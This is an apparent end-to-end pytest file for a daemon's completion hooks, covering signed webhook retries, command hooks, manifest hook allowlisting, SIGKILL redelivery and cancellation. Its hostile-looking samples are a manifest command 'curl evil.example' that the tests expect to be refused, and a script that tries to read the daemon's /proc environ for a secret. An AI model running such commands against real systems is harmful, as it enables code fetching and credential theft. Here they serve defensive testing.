"""Completion hooks over the real daemon: a signed webhook retried after a 503, a command
given the report, a manifest's own hooks as far as the config allows, and a delivery cut by
SIGKILL made again after the restart."""

from __future__ import annotations

import asyncio
import json
import os
import shutil
import signal
import sys
from pathlib import Path
from typing import Any

import pytest

from orchestrator.core.hooks import Hook
from orchestrator.core.settings import RecognitionSettings
from orchestrator.store import NewJob
from orchestrator.store.sqlite import SQLiteStore
from tests.conftest import S3Server
from tests.support.daemon import DaemonEnv
from tests.support.emulator import emulator
from tests.support.receiver import webhook_receiver

pytestmark = pytest.mark.e2e

SECRET = "test-hooks-signing-secret"
# The command hook: records its arguments, stdin and environment in the file named by its
# first argument (the report's path comes last).
RECORDER = """
import json, os, sys
out = sys.argv[1]
record = {"argv": sys.argv[1:], "stdin": sys.stdin.read(), "env": dict(os.environ)}
with open(out, "a", encoding="utf-8") as handle:
    handle.write(json.dumps(record) + "\\n")
print("recorded", file=sys.stderr)
"""


def hooks_env(
    tmp_path: Path, s3_server: S3Server, bucket: str, url: str, **hooks: Any
) -> DaemonEnv:
    env = DaemonEnv.create(
        tmp_path,
        s3_server,
        bucket,
        url,
        hooks={
            "secret_env": "TEST_HOOKS_SECRET",
            "base_delay_s": 0.05,
            "max_delay_s": 0.2,
            **hooks,
        },
    )
    env.env["TEST_HOOKS_SECRET"] = SECRET
    return env


async def test_webhooks_are_signed_and_retried_and_the_command_gets_the_report(
    tmp_path: Path, s3_server: S3Server, s3_bucket: str
) -> None:
    recorded = tmp_path / "command.jsonl"

    def answer(_path: str, nth: int) -> int:
        return 503 if nth == 1 else 200  # the first request of all fails

    async with (
        emulator(s3_server, speed=1000) as emu,
        webhook_receiver(SECRET, answer) as receiver,
    ):
        env = hooks_env(
            tmp_path,
            s3_server,
            s3_bucket,
            emu.url,
            webhook=f"{receiver.url}/all?token=query-token-never-logged",
            command=[sys.executable, "-c", RECORDER, str(recorded)],
            manifest_webhooks=[f"{receiver.url}/teams/"],
        )
        audio = env.copy_audio(("greeting-mono.ogg",))
        env.put_manifest(
            "calls",
            [{"audio": "greeting-mono.ogg"}],
            base_dir=audio,
            on_finish={"webhook": f"{receiver.url}/teams/calls"},
        )
        assert await env.run_until_idle() == 0, env.output()[-3000:]
        status = await env.cli("status", "--json")

    report_path = env.results / "calls" / "report.json"
    report = report_path.read_bytes()
    # Three deliveries (the config's webhook and command, the manifest's webhook); the
    # webhook answered 503 was tried again under the same delivery id.
    paths = sorted(r.path for r in receiver.received)
    assert paths in (["/all", "/all", "/teams/calls"], ["/all", "/teams/calls", "/teams/calls"])
    assert all(r.signed for r in receiver.received)
    assert all(r.body == report for r in receiver.received)
    assert {r.event for r in receiver.received} == {"manifest.finished"}
    first = receiver.received[0]
    assert [r.delivery_id for r in receiver.received if r.path == first.path] == [
        first.delivery_id,
        first.delivery_id,
    ]
    assert len({r.delivery_id for r in receiver.received}) == 2

    (call,) = [json.loads(line) for line in recorded.read_text("utf-8").splitlines()]
    assert call["argv"] == [str(recorded), str(report_path)]
    assert call["stdin"].encode() == report
    assert call["env"]["SPEECHKIT_MANIFEST"] == "calls"
    assert call["env"]["SPEECHKIT_REPORT"] == str(report_path)
    # The daemon's credentials stay with the daemon.
    assert not any(name.startswith("TEST_") for name in call["env"])

    retried = env.events("hook.retry")
    assert len(retried) == 1
    assert retried[0]["error"] == "HTTP 503"
    assert retried[0]["target"] in (f"{receiver.url}/all", f"{receiver.url}/teams/calls")
    succeeded = env.events("hook.succeeded")
    assert sorted((e["kind"], e["origin"], e["attempts"]) for e in succeeded) in (
        [("command", "config", 1), ("webhook", "config", 2), ("webhook", "manifest", 1)],
        [("command", "config", 1), ("webhook", "config", 1), ("webhook", "manifest", 2)],
    )
    assert "query-token-never-logged" not in json.dumps(env.events())  # never logged

    (manifest,) = json.loads(status.stdout)["manifests"]
    hooks = {(h["kind"], h["origin"]): h for h in manifest["hooks"]}
    assert set(hooks) == {("command", "config"), ("webhook", "config"), ("webhook", "manifest")}
    assert {h["state"] for h in hooks.values()} == {"delivered"}
    assert hooks[("webhook", "config")]["target"] == f"{receiver.url}/all"
    text = await env.cli("status")
    assert f"hook: webhook {receiver.url}/all (config): delivered" in text.stdout


# The command hook: tries to read the daemon's (its parent's) environment, and records
# whether it could.
PEEK = """
import os, sys
try:
    with open(f"/proc/{os.getppid()}/environ", "rb") as handle:
        seen = b"TEST_HOOKS_SECRET" in handle.read()
    result = "read, the secret in it" if seen else "read"
except OSError as exc:
    result = f"refused: {exc.strerror}"
with open(sys.argv[1], "w", encoding="utf-8") as out:
    out.write(result)
"""


async def test_a_hook_command_cannot_read_the_daemons_environment(
    tmp_path: Path, s3_server: S3Server, s3_bucket: str
) -> None:
    # The daemon is not dumpable: the kernel refuses its /proc/PID/environ to a process of
    # the same user. Root (as here and in CI) reads it all the same through its
    # capabilities, so as root the daemon (and so its hooks) runs without any: as the
    # unprivileged user of a systemd unit would.
    peeked = tmp_path / "peeked.txt"
    async with emulator(s3_server, speed=1000) as emu:
        env = hooks_env(
            tmp_path,
            s3_server,
            s3_bucket,
            emu.url,
            command=[sys.executable, "-c", PEEK, str(peeked)],
        )
        if os.geteuid() == 0:
            setpriv = shutil.which("setpriv")
            if setpriv is None:
                pytest.skip("setpriv (util-linux) is needed to drop root's capabilities")
            env.wrapper = [setpriv, "--bounding-set=-all"]
        audio = env.copy_audio(("greeting-mono.ogg",))
        env.put_manifest("calls", [{"audio": "greeting-mono.ogg"}], base_dir=audio)
        assert await env.run_until_idle() == 0, env.output()[-3000:]
    assert peeked.read_text("utf-8") == "refused: Permission denied"


async def test_a_manifest_hook_the_config_does_not_allow_is_refused(
    tmp_path: Path, s3_server: S3Server, s3_bucket: str
) -> None:
    env = hooks_env(
        tmp_path,
        s3_server,
        s3_bucket,
        "http://127.0.0.1:9",
        manifest_webhooks=["https://ci.example.org/hooks/"],
    )
    audio = env.copy_audio(("greeting-mono.ogg",))
    manifest = tmp_path / "calls.yaml"
    manifest.write_text(
        "name: calls\n"
        f"base_dir: {audio}\n"
        "on_finish:\n"
        "  webhook: https://ci.example.org/hooksmith/x\n"
        "  command: [/bin/sh, -c, 'curl evil.example']\n"
        "jobs: [greeting-mono.ogg]\n",
        "utf-8",
    )
    result = await env.cli("submit", str(manifest))
    assert result.returncode == 2
    errors = result.stderr.splitlines()
    assert any(
        line.startswith(
            f"error: {manifest}:4: on_finish.webhook: https://ci.example.org/hooksmith/x"
        )
        for line in errors
    ), result.stderr
    assert any(f"{manifest}:5: on_finish.command:" in line for line in errors), result.stderr
    assert not list(env.inbox.glob("*.yaml"))

    # validate --config says the same, and does not call the manifest valid.
    checked = await env.cli("validate", str(manifest))
    assert checked.returncode == 2
    assert "ok:" not in checked.stdout, checked.stdout
    assert f"{manifest}:4: on_finish.webhook:" in checked.stderr, checked.stderr

    # Placed in the inbox behind submit's back, the daemon refuses it the same way.
    env.inbox.mkdir(parents=True, exist_ok=True)
    (env.inbox / "calls.yaml").write_bytes(manifest.read_bytes())
    assert await env.run_until_idle() == 0
    problems = (tmp_path / "failed" / "calls.yaml.problems.txt").read_text("utf-8")
    assert "on_finish.webhook" in problems
    assert "hooks.manifest_webhooks" in problems


async def test_a_delivery_cut_by_sigkill_is_made_after_the_restart(
    tmp_path: Path, s3_server: S3Server, s3_bucket: str
) -> None:
    async with (
        emulator(s3_server, speed=1000) as emu,
        webhook_receiver(SECRET) as receiver,
    ):
        receiver.hold = asyncio.Event()  # the first request is never answered
        env = hooks_env(tmp_path, s3_server, s3_bucket, emu.url, webhook=f"{receiver.url}/done")
        audio = env.copy_audio(("greeting-mono.ogg",))
        env.put_manifest("calls", [{"audio": "greeting-mono.ogg"}], base_dir=audio)
        daemon = await env.start()
        # The manifest is finished and its webhook is on its way: kill the daemon now.
        await asyncio.wait_for(receiver.arrived.wait(), 60)
        assert env.events("manifest.finished")
        daemon.send_signal(signal.SIGKILL)
        assert await daemon.wait() == -signal.SIGKILL
        receiver.hold.set()
        receiver.hold = None
        assert await env.run_until_idle() == 0, env.output()[-3000:]
        status = await env.cli("status", "--json")

    # Delivered again after the restart, under the same delivery id (at-least-once).
    assert len(receiver.received) == 2
    assert receiver.received[0].delivery_id == receiver.received[1].delivery_id
    assert all(r.signed for r in receiver.received)
    (succeeded,) = env.events("hook.succeeded")
    assert succeeded["attempts"] == 1  # the killed attempt was never recorded
    (manifest,) = json.loads(status.stdout)["manifests"]
    (hook,) = manifest["hooks"]
    assert (hook["state"], hook["delivery_id"]) == ("delivered", receiver.received[0].delivery_id)


async def test_cancel_hooks_ends_a_manifests_pending_deliveries(
    tmp_path: Path, s3_server: S3Server, s3_bucket: str
) -> None:
    env = hooks_env(tmp_path, s3_server, s3_bucket, "http://127.0.0.1:9", command=["/bin/true"])
    store = await SQLiteStore.open(env.root / "state" / "orchestrator.sqlite3")
    try:
        manifest_id, _ = await store.add_manifest(
            "calls", "/calls.yaml", "d", [NewJob("/a.ogg", "a", RecognitionSettings())], 1.0
        )
        hook = Hook("command", "config", command=("/bin/true",))
        await store.finish_manifest(manifest_id, "/r.json", "/p/calls.yaml", 2.0, (hook,))
    finally:
        await store.close()
    result = await env.cli("cancel", "--hooks", "calls")
    assert result.returncode == 0, result.stderr
    assert result.stdout == "calls: 1 hook delivery cancelled\n"
    status = json.loads((await env.cli("status", "--json")).stdout)
    (manifest,) = status["manifests"]
    assert [(h["state"], h["last_error"]) for h in manifest["hooks"]] == [
        ("failed", "cancelled by the operator")
    ]
